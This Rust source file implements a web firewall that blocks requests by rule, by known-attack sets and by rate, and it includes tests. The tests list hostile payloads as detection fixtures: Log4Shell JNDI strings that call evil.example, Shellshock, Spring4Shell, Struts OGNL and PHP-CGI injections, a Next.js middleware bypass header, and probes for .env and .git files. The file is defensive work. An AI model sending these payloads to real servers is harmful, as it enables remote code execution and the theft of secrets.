//! Who is refused before anything of the site is looked at: by a rule, by a set of known attacks, or for asking too often.

use std::{cell::OnceCell, net::IpAddr, time::Duration};

use hyper::{
    HeaderMap,
    header::{CONTENT_TYPE, HeaderName, HeaderValue, USER_AGENT},
    http::request::Parts,
};

use super::{super::page::Refusal, Gate};
use crate::{
    base::{
        countries::{self, Countries},
        network::{self, Network},
    },
    domain::{
        policy,
        site_settings::{
            firewall::{
                Action, Firewall,
                seen::{Asker, Origin, Seen, is_function},
            },
            limits::{Limits, Per},
        },
    },
    http::{peer::Client, secret_path},
    serve::{hits::Fit, rates::Pace},
};

/// What Next.js tells itself, and believed of others.
const INSIDE: &str = "x-middleware-subrequest";
/// One line in the log for each rule in this time: whoever floods a site does not flood the log.
const TOLD: Pace = Pace { times: 1, every: Duration::from_mins(1) };

/// Why this request is refused, if it is.
pub(super) fn refused(gate: &Gate<'_>) -> Option<Refusal> {
    let (limits, firewall) = (&gate.settings.limits, &gate.settings.firewall);
    if *limits == Limits::default() && *firewall == Firewall::default() {
        return None;
    }
    let Client { address: client, is_many, .. } = gate.asked.client();
    if limits.exempt.iter().any(|it| it.contains(client)) {
        return None;
    }
    let asker = Sender::new(gate.asked.parts, client, gate.countries);
    let seen = asker.seen();
    let Some(refusal) = by_rule(gate, &seen, client).or_else(|| by_rate(gate, &seen, client, Per::Address)) else {
        // What all visitors have used up together is nobody's own fault.
        return by_rate(gate, &seen, client, Per::Site);
    };
    // Who speaks for many has no ban: one of them would shut out all.
    if let Some(ban) = limits.ban.filter(|_| !is_many) {
        let pace = Pace { times: ban.after, every: Duration::from_secs(ban.within_s.into()) };
        // The last refusal that is borne is the one before the number that is set.
        let borne = Pace { times: pace.times.saturating_sub(1), ..pace };
        let key = ("strike", network::counted(client));
        if borne.times == 0 || gate.rates.take(gate.target.site, key, borne).is_err() {
            gate.bans.make(gate.target.site, client, Duration::from_secs(ban.for_s.into()));
        }
    }
    Some(refusal)
}

/// Whether a rule refuses a request that was let in before. Nothing is counted or told.
pub(super) fn is_blocked(gate: &Gate<'_>) -> bool {
    let (limits, firewall) = (&gate.settings.limits, &gate.settings.firewall);
    if *firewall == Firewall::default() {
        return false;
    }
    let client = gate.asked.client().address;
    if limits.exempt.iter().any(|it| it.contains(client)) {
        return false;
    }
    let asker = Sender::new(gate.asked.parts, client, gate.countries);
    asker.seen().fitting(firewall).map(|it| it.1).find(|it| it.decides()) == Some(Action::Block)
}

/// Whether [`is_blocked`] reads a header.
pub(super) fn looks_at(name: &HeaderName, value: &HeaderValue) -> bool {
    let bytes = value.as_bytes();
    *name == USER_AGENT
        || name == INSIDE
        || is_function(bytes)
        || bytes.windows(2).any(|it| matches!(it, b"${" | b"%{"))
}

fn by_rule(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr) -> Option<Refusal> {
    let mut shown = None;
    for (name, action, is_set) in seen.fitting(&gate.settings.firewall) {
        if action == Action::Allow {
            return None;
        }
        let path: &str = shown.get_or_insert_with(|| secret_path::shown(gate.asked.parts.uri.path()));
        let fit = Fit { name, is_set, now_ms: gate.now_s.saturating_mul(1_000), path };
        gate.hits.count(gate.target.site, &gate.settings.firewall, fit);
        if gate.rates.take(gate.target.site, ("told", name), TOLD).is_ok() {
            let site = &gate.target.name;
            tracing::info!(%site, rule = name, %client, %path, ?action, "a request fits a rule of the site; the next ones of this minute are not told");
        }
        if action == Action::Block {
            return Some(Refusal::Blocked);
        }
    }
    None
}

/// Those of each address come first: who is refused by them uses up nothing of what all visitors have together.
fn by_rate(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr, per: Per) -> Option<Refusal> {
    let mut longest = None;
    for rate in gate.settings.limits.rates.iter().filter(|it| it.per == per) {
        if !seen.is_method(&rate.methods) || !policy::fits(&rate.path, seen.path()) {
            continue;
        }
        let who = match rate.per {
            Per::Address => Some(network::counted(client)),
            Per::Site => None,
        };
        let pace = Pace { times: rate.requests, every: Duration::from_secs(rate.every_s.into()) };
        let key = (rate.path.as_str(), &rate.methods, rate.requests, rate.every_s, who);
        longest = longest.max(gate.rates.take(gate.target.site, key, pace).err());
    }
    longest.map(Refusal::TooMany)
}

/// Who has sent a request.
struct Sender<'a> {
    parts: &'a Parts,
    client: IpAddr,
    countries: &'a Countries,
    /// Where it comes from, once a rule has asked.
    origin: OnceCell<Origin>,
}

impl<'a> Sender<'a> {
    const fn new(parts: &'a Parts, client: IpAddr, countries: &'a Countries) -> Self {
        Self { parts, client, countries, origin: OnceCell::new() }
    }

    fn seen(&self) -> Seen<'_> {
        Seen::new(self.parts.method.as_str(), self.parts.uri.path(), self.parts.uri.query(), self)
    }
}

impl Asker for Sender<'_> {
    fn agent(&self) -> &str {
        text(&self.parts.headers, &USER_AGENT)
    }

    fn content_type(&self) -> &str {
        text(&self.parts.headers, &CONTENT_TYPE)
    }

    fn is_from_within(&self) -> bool {
        self.parts.headers.contains_key(INSIDE)
    }

    fn has_header(&self, is_so: &dyn Fn(&[u8]) -> bool) -> bool {
        self.parts.headers.values().any(|it| is_so(it.as_bytes()))
    }

    fn is_in(&self, networks: &[Network]) -> bool {
        networks.iter().any(|it| it.contains(self.client))
    }

    fn origin(&self) -> Origin {
        let look = || match self.countries.find(self.client) {
            _ if !self.countries.is_known() => Origin::Unknown,
            Some(country) => Origin::In(country),
            None if countries::is_inside(self.client) => Origin::Inside,
            None => Origin::Elsewhere,
        };
        *self.origin.get_or_init(look)
    }
}

fn text<'h>(headers: &'h HeaderMap, name: &HeaderName) -> &'h str {
    headers.get(name).and_then(|it| it.to_str().ok()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use hyper::Request;

    use super::*;
    use crate::domain::site_settings::firewall::{Rule, Set};

    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
        let mut request = Request::builder().uri(uri);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        request.body(()).unwrap().into_parts().0
    }

    #[test]
    fn known_attacks_are_known_and_what_visitors_ask_is_none() {
        let client = "192.0.2.1".parse().unwrap();
        for (set, uri, headers, wanted) in [
            (Set::Dotfiles, "/.env", &[][..], true),
            (Set::Dotfiles, "/a/.GIT/config", &[], true),
            (Set::Dotfiles, "/%2eenv", &[], true),
            (Set::Dotfiles, "//.env.production", &[], true),
            (Set::Dotfiles, "/a%5c.env", &[], true),
            (Set::Dotfiles, "/.well-known/security.txt", &[], false),
            (Set::Dotfiles, "/a.env", &[], false),
            (Set::Dotfiles, "/a/./b/../c", &[], false),
            (Set::Probes, "/WP-login.php", &[], true),
            (Set::Probes, "//wp-admin/setup-config.php", &[], true),
            (Set::Probes, "/wp-admin", &[], true),
            (Set::Probes, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &[], true),
            (Set::Probes, "/wp-content/uploads/photo.jpg", &[], false),
            (Set::Probes, "/blog/wp-login.php-explained", &[], false),
            (Set::Probes, "/", &[], false),
            (Set::Exploits, "/", &[("user-agent", "${jndi:ldap://evil.example/a}")], true),
            (Set::Exploits, "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", &[], true),
            (Set::Exploits, "/", &[("x-api", "${${lower:j}${upper:n}d${::-i}:ldap://e}")], true),
            (Set::Exploits, "/", &[("x-api", "${${env:NaN:-j}ndi${env:NaN:-:}rmi://e}")], true),
            (Set::Exploits, "/?price=${amount}", &[("user-agent", "curl/8 ${version}")], false),
            (Set::Exploits, "/cgi", &[("user-agent", "() { :; }; echo x")], true),
            (Set::Exploits, "/?class.module.classLoader.resources.context.parent.pipeline=x", &[], true),
            (Set::Exploits, "/", &[("content-type", "%{(#nike='multipart/form-data')}")], true),
            (Set::Exploits, "/index.php?-d+allow_url_include%3d1", &[], true),
            (Set::Exploits, "/index.php?%ADd+allow_url_include%3d1", &[], true),
            (Set::Exploits, "/search?-negative", &[], false),
            (Set::Exploits, "/admin", &[("x-middleware-subrequest", "middleware")], true),
            (Set::Exploits, "/?class=module&q=jndi", &[("content-type", "multipart/form-data")], false),
        ] {
            let mut parts = parts(uri, headers);
            let is_of = |parts: &Parts| Sender::new(parts, client, &Countries::none()).seen().is_of(set);
            assert_eq!(is_of(&parts), wanted, "{set:?} {uri} {headers:?}");
            // What is open is looked at again with what was kept of its head.
            parts.headers = super::super::looked_at(&parts.headers);
            assert_eq!(is_of(&parts), wanted, "kept: {set:?} {uri} {headers:?}");
        }
    }

    #[test]
    fn a_rule_fits_what_fits_all_that_it_names() {
        let rule = |more: &str| serde_json::from_str::<Rule>(&format!("{{\"name\":\"a\"{more}}}")).unwrap();
        let client = "192.0.2.1".parse().unwrap();
        for (more, uri, headers, wanted) in [
            (r#","path":"/admin/*""#, "/ADMIN/x", &[][..], true),
            (r#","path":"/admin/*""#, "//admin//x", &[], true),
            (r#","path":"/admin/*""#, "/%61dmin/x", &[], true),
            (r#","path":"/admin/*""#, "/administration", &[], false),
            (r#","path":"/admin/*","methods":["POST"]"#, "/admin/x", &[], false),
            (r#","methods":["GET"],"path":"/a""#, "/a", &[], true),
            (r#","agent_has":"badbot""#, "/", &[("user-agent", "Mozilla/5.0 BadBot/1")], true),
            (r#","agent_has":"badbot""#, "/", &[], false),
            (r#","agent_has":"""#, "/", &[], true),
            (r#","agent_has":"""#, "/", &[("user-agent", "x")], false),
            (r#","query_has":"debug=1""#, "/?a&debug=1", &[], true),
            (r#","query_has":"debug=1""#, "/?a", &[], false),
            (r#","query_has":"debug=1""#, "/?debug=%31", &[], true),
            (r#","path":"/caf\u00e9/*""#, "/cafe%CC%81/x", &[], true),
            (r#","from":["192.0.2.0/24"]"#, "/", &[], true),
            (r#","from":["198.51.100.0/24"]"#, "/", &[], false),
        ] {
            let mut parts = parts(uri, headers);
            let fits = |parts: &Parts| Sender::new(parts, client, &Countries::none()).seen().fits(&rule(more));
            assert_eq!(fits(&parts), wanted, "{more} {uri}");
            parts.headers = super::super::looked_at(&parts.headers);
            assert_eq!(fits(&parts), wanted, "kept: {more} {uri}");
        }
    }
}
